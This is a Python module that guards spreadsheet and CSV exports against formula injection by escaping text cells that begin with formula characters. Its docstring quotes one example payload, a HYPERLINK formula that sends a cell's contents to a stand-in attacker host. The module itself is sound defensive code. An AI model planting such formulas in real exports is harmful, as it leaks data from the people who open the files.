"""Cells of a CSV file or a spreadsheet that no spreadsheet program runs as a formula.

A text that begins with =, +, -, @, a tab or a carriage return is a formula to Excel and
LibreOffice (OWASP's "CSV injection"): an organisation's city written as
=HYPERLINK("http://evil.example/?x="&A1,"klick") would run on the computer of whoever opens the
export. Every export writes its cells through `safe_cell` (CSV) or `safe_sheet_row` (openpyxl).
Numbers stay numbers, negative ones included; only text is touched.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A text that is only a number ("-12", "+46", "3,5") is read as a number, never as a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_formula_like(value) -> bool:
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    )


def safe_cell(value):
    """A CSV cell: formula-like text gets a leading apostrophe, which spreadsheet programs show
    as text; everything else is returned as it is."""
    if is_formula_like(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


def safe_sheet_row(sheet, values) -> None:
    """Append `values` to an openpyxl sheet with every text stored as text: openpyxl would store
    a text beginning with "=" as a formula. The cell is marked quotePrefix, so Excel also keeps
    it as text when someone edits it."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        value = cell.value
        if isinstance(value, str) and (value.startswith("=") or is_formula_like(value)):
            cell.data_type = "s"
            cell.quotePrefix = True
